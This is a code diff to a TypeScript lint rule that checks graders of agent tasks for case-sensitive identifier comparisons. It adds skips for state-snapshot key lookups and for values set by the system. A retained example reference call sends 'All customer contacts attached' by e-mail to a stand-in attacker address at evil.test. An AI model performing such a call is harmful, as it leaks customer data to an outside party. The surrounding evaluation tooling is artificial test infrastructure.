@@ -33,7 +33,7 @@ export default defineRule<'sensitive', CaseSensitiveIdentifierOptions>({
       reference: "[call('send_email', { to: 'mark.black@evil.test', subject: 'Contacts', body: 'All customer contacts attached.' })]",
     },
     witness:
-      "The reference run with the identifier written in other letter case wherever the reference writes it where the compared side reads it (an argument of the same name, an e-mail's field, a SQL literal for a table, the answer for `output`): every identifier of the check (each element of a list it accepts), whole, as the validator's address-case mutant (a URL or a domain keeps the case of its path). The same party: a right judge gives the reference run's verdict, this one the other. Where the reference writes no such value (no reference, a value of the initial state), the witness is the comparison itself (exact reasoning: it compares with the literal's case).",
+      "The reference run with the identifier written in other letter case wherever the reference writes it where the compared side reads it (an argument of the same name, an e-mail's field, a SQL literal for a table, the answer for `output`): every identifier of the check (each element of a list it accepts), whole, as the validator's address-case mutant (a URL or a domain keeps the case of its path). The same party: a right judge gives the reference run's verdict, this one the other. Where the task has no reference calls, the witness is the comparison itself (exact reasoning: it compares with the literal's case). A value of the state that a reference with calls never writes was set by the system (the task's own data, as two stored values compared raw): nothing shows its case can differ, and it is not reported; nor is a key the judge formed looked up in the state's files or tables (`post.files[url] === undefined`), which names an entry of a collection the environment keys.",
   },
   defaultOptions: IDENTIFIER_DEFAULTS,
   patternOptions: ['identifierFields', 'extraPatterns'],
@@ -44,6 +44,7 @@ export default defineRule<'sensitive', CaseSensitiveIdentifierOptions>({
       const record = facts.records.get(id);
       if (record?.type !== 'compare' || record.caseRule !== 'sensitive' || record.match === 'selector') continue;
       if (record.match === 'regex' || record.match === 'numeric-comparison' || record.match === 'numeric-tolerance') continue;
+      if (isKeyLookup(record)) continue;
       const literals = literalsOf(record);
       const field = comparedField(record);
       // A URL field's path is case-sensitive: there a literal counts only by its shape (a host).
@@ -56,6 +57,19 @@ export default defineRule<'sensitive', CaseSensitiveIdentifierOptions>({
         literals.find((l): l is string => typeof l === 'string' && kindOf(l) !== undefined);
       if (!hit) continue;
       const kind = kindOf(hit)!;
+      const found = witness(
+        facts,
+        task,
+        record,
+        hit,
+        kind,
+        // The same check made for each element of a literal list (a loop, `every`) is one record per element.
+        [...facts.records.values()]
+          .filter((r): r is CompareRecord => r.type === 'compare' && r.node === record.node)
+          .flatMap(literalsOf)
+          .filter((l): l is string => typeof l === 'string' && kindOf(l) !== undefined),
+      );
+      if (!found) continue;
       report(
         record.expectedNode ?? record.node,
         'sensitive',
@@ -66,18 +80,7 @@ export default defineRule<'sensitive', CaseSensitiveIdentifierOptions>({
           variant: otherCaseOfIdentifier(hit),
           fix: facts.style === 'declarative' ? fixFor(record.match) : '`.toLowerCase()` on both sides',
         },
-        witness(
-          facts,
-          task,
-          record,
-          hit,
-          kind,
-          // The same check made for each element of a literal list (a loop, `every`) is one record per element.
-          [...facts.records.values()]
-            .filter((r): r is CompareRecord => r.type === 'compare' && r.node === record.node)
-            .flatMap(literalsOf)
-            .filter((l): l is string => typeof l === 'string' && kindOf(l) !== undefined),
-        ),
+        found,
         facts.style === 'imperative' && record.expectedNode
           ? lowerCaseBothSides(record.node, record.expectedNode, (node) => (types.checker.getTypeAtLocation(node).flags & ts.TypeFlags.StringLike) !== 0)
           : undefined,
@@ -92,7 +95,7 @@ export default defineRule<'sensitive', CaseSensitiveIdentifierOptions>({
  * keeps its case): the same party, so
  * a right judge still passes, and this one fails. Without such a place, the comparison itself.
  */
-function witness(facts: JudgeFacts, task: TaskFacts, record: CompareRecord, hit: string, kind: string, identifiers: readonly string[]): WitnessSpec {
+function witness(facts: JudgeFacts, task: TaskFacts, record: CompareRecord, hit: string, kind: string, identifiers: readonly string[]): WitnessSpec | undefined {
   const variant = otherCaseOfIdentifier(hit);
   const site = matchNeeded(facts, record)
     ? findValue(task, record, {
@@ -105,6 +108,9 @@ function witness(facts: JudgeFacts, task: TaskFacts, record: CompareRecord, hit:
       })
     : undefined;
   if (site) return referenceWitness(site.change, true, site.at);
+  // A value of the state the reference run never writes was set by the system (the task's own
+  // data), not by the agent: nothing shows its case can differ from the literal's.
+  if (task.reference !== undefined && task.reference.length > 0 && readsStateOnly(record)) return undefined;
   return codeWitness(
     `\`${short(record.node)}\` compares with the letter case of ${JSON.stringify(hit)}: ${JSON.stringify(variant)} is the same ${kind} and does not match`,
   );
@@ -126,4 +132,22 @@ function fixFor(match: string): string {
   if (match === 'membership') return 'oneOfIgnoreCase()';
   if (match === 'substring') return 'containsIgnoreCase()';
   return 'equalsIgnoreCase()';
+}
+
+const SNAPSHOT_KEYS = /^(pre|post|steps\[\]\.state)\.(files|tables)\{keys\}$/;
+const SNAPSHOT_PATH = /^(pre|post|steps\[\]\.state)[.[]/;
+
+/**
+ * A key the judge formed looked up in a keyed collection of the state (`post.files[url] === undefined`):
+ * which entry to read, in a collection the environment keys, not an identifier the agent supplied.
+ */
+function isKeyLookup(record: CompareRecord): boolean {
+  const paths = [...record.actual.paths];
+  return record.match === 'membership' && paths.length > 0 && paths.every((p) => SNAPSHOT_KEYS.test(p));
+}
+
+/** The compared side is read from the state snapshots only (not the trace, the answer or the messages). */
+function readsStateOnly(record: CompareRecord): boolean {
+  const paths = [...record.actual.paths, ...(record.actual.elems ?? [])];
+  return paths.length > 0 && paths.every((p) => SNAPSHOT_PATH.test(p));
 }
